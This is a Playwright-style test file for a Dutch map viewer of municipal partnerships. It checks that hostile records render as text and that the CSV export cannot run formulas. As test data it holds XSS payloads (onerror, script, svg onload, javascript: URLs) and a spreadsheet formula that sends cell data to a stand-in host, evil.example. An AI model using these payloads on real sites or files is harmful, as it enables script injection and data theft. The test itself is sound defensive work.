// Hostile content in the dataset (as a careless or malicious edit could bring): markup renders
// as text, only http(s) addresses become links, and very long strings do not break the layout.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { root, startServer, launchBrowser, openViewer } from './support.mjs';

const LONG = 'Samenwerkingsverband'.repeat(60);
let server;
let browser;
let site;
before(async () => {
  // A folder of its own, so that runs from other work trees at the same time cannot collide.
  site = fs.mkdtempSync(path.join(os.tmpdir(), 'kaartviewer-hostile-'));
  fs.cpSync(path.join(root, 'dist'), site, { recursive: true, preserveTimestamps: true });
  const file = path.join(site, 'data/verbanden.json');
  const data = JSON.parse(fs.readFileSync(file, 'utf8'));
  data.verbanden.unshift({
    id: 'vijandig',
    name: '<img src=x onerror="window.__pwned=1">Regio <b>vet</b>',
    description: '<script>window.__pwned=2</script> Doel met "quotes" & ampersand',
    themes: ['afval'],
    legal_form: 'nv-bv',
    members: [{ code: 'GM0344', role: '<svg onload="window.__pwned=3">' }, { code: 'GM0307' }],
    other_partners: ['<a href="javascript:window.__pwned=4">klik</a>', LONG],
    website: 'javascript:window.__pwned=5',
    seat: '<iframe src="https://example.org"></iframe>',
    sources: ['https://example.nl/bron', 'javascript:window.__pwned=6', 'mailto:info@example.nl'],
    checked: '2026-11-23',
  });
  // A record whose name is a spreadsheet formula that would leak data when the CSV is opened.
  data.verbanden.unshift({
    id: 'formule',
    name: '=HYPERLINK("http://evil.example/?leak="&A1)',
    description: '@SUM(1+1)',
    themes: ['afval'],
    legal_form: 'nv-bv',
    members: [{ code: 'GM0344', role: '+31 20 000' }],
    sources: ['https://example.nl/bron'],
    checked: '2026-11-23',
  });
  fs.writeFileSync(file, JSON.stringify(data));
  for (const extension of ['.gz', '.br']) fs.rmSync(file + extension, { force: true });
  server = await startServer(site);
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  await server?.stop();
  fs.rmSync(site, { recursive: true, force: true });
});

test('markup in a record is shown as text, never run, and only http(s) becomes a link', async () => {
  const { page, errors } = await openViewer(browser, server.url, { query: '?verband=vijandig' });
  const dialogs = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  const panel = page.locator('.verband-panel[data-verband=vijandig]');
  await panel.waitFor();
  assert.equal(await panel.locator('h2').innerText(), '<img src=x onerror="window.__pwned=1">Regio <b>vet</b>');
  assert.match(await panel.innerText(), /<script>window.__pwned=2<\/script> Doel met "quotes" & ampersand/);
  assert.equal(await panel.locator('img, script, iframe, b, svg').count(), 0, 'no element came from the data');
  const hrefs = await panel.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
  assert.deepEqual(hrefs, ['https://example.nl/bron']);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.deepEqual(dialogs, []);

  // The very long partner name wraps inside the panel.
  const overflow = await page.locator('.sidebar').evaluate((s) => s.scrollWidth - s.clientWidth);
  assert.ok(overflow <= 1, `the sidebar does not scroll sideways (${overflow}px)`);
  await page.locator('[data-view=verbanden]').click();
  await page.waitForSelector('.verband-list [data-verband=vijandig]');
  assert.equal(await page.locator('.verband-list img').count(), 0);
  assert.deepEqual(errors, []);
  await page.close();
});

test('the downloaded CSV cannot run formulas in a spreadsheet', async () => {
  const { page } = await openViewer(browser, server.url, { query: '?weergave=verbanden&zoek=HYPERLINK' });
  await page.waitForSelector('.verband-list [data-verband=formule]');
  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('button.download-csv').click()]);
  const csv = fs.readFileSync(await download.path(), 'utf8');
  const row = csv.split('\n').find((line) => line.includes(';formule;'));
  assert.ok(row, csv);
  assert.ok(row.includes(';"\'=HYPERLINK(""http://evil.example/?leak=""&A1)";'), row);
  assert.ok(row.includes(";'@SUM(1+1);") && row.includes(";'+31 20 000;"), row);
  assert.ok(!/(^|;)"?[=+@-]/.test(row.replace(/^\uFEFF/, '')), `no cell starts a formula: ${row}`);
  await page.close();
});
